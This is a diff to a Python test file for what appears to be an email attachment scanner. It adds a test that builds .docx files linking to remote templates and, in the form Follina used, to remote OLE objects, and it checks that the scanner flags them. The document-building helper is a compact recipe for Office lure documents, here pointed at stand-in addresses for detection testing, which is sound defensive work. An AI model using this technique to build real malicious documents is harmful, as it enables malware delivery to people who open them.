@@ -13,6 +13,8 @@ import tarfile
 import zipfile
 import zlib
 
+import docx
+import docx.opc.constants
 import olefile
 import xlrd
 import xlwt
@@ -262,6 +264,51 @@ def test_rtf_objects(make_server, sink):
     rec, sy = verdict(srv, refs["chart"])
     assert not {"RTF_OBJECT", "EXE_ATTACHMENT"} & set(sy), sy
     assert rec["class"] == "clean", rec
+
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def docx_linking(template=None, ole_object=None, hyperlink=None):
+    """A .docx written by python-docx, its settings relating a template
+    and its document an OLE object and a hyperlink, each External."""
+    d = docx.Document()
+    d.add_paragraph("Contract draft: please review the attached terms.")
+    if template:
+        d.part.part_related_by(docx.opc.constants.RELATIONSHIP_TYPE.SETTINGS).relate_to(
+            template, REL + "attachedTemplate", is_external=True)
+    if ole_object:
+        d.part.relate_to(ole_object, REL + "oleObject", is_external=True)
+    if hyperlink:
+        d.part.relate_to(hyperlink, REL + "hyperlink", is_external=True)
+    out = io.BytesIO()
+    d.save(out)
+    return out.getvalue()
+
+
+def test_office_remote_content(make_server, sink):
+    """At the default thresholds: .docx files written by python-docx that
+    load their template (template injection) or an OLE object (Follina's
+    form) from the web are OFFICE_REMOTE_CONTENT with the address in the
+    reason; one with a hyperlink and a template on disk is clean."""
+    cases = {
+        "template": ("Contract.docx", docx_linking(template="https://cdn.example.net/t.dotm")),
+        "follina": ("Invoice.docx", docx_linking(ole_object="http://198.51.100.7/x.html!")),
+        "plain": ("Minutes.docx", docx_linking(template="file:///C:/Users/a/Templates/Normal.dotm",
+                                              hyperlink="https://example.org/agenda")),
+    }
+    srv = make_server(sink=sink)
+    refs, got = send_all(srv, sink, cases,
+                         "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
+    _, sy = verdict(srv, refs["template"])
+    assert ('"Contract.docx" is an Office document that loads its template (template injection) '
+            "from https://cdn.example.net/t.dotm when opened") in sy.get("OFFICE_REMOTE_CONTENT", ""), sy
+    assert "OFFICE_REMOTE_CONTENT" in got["template"].header("X-Mailward-Symbols")
+    _, sy = verdict(srv, refs["follina"])
+    assert "loads an OLE object (as CVE-2021-40444 and CVE-2022-30190 do) from http://198.51.100.7/x.html!" in sy.get(
+        "OFFICE_REMOTE_CONTENT", ""), sy
+    rec, sy = verdict(srv, refs["plain"])
+    assert "OFFICE_REMOTE_CONTENT" not in sy and rec["class"] == "clean", rec
 
 
 def zip_of(files, method=zipfile.ZIP_DEFLATED):
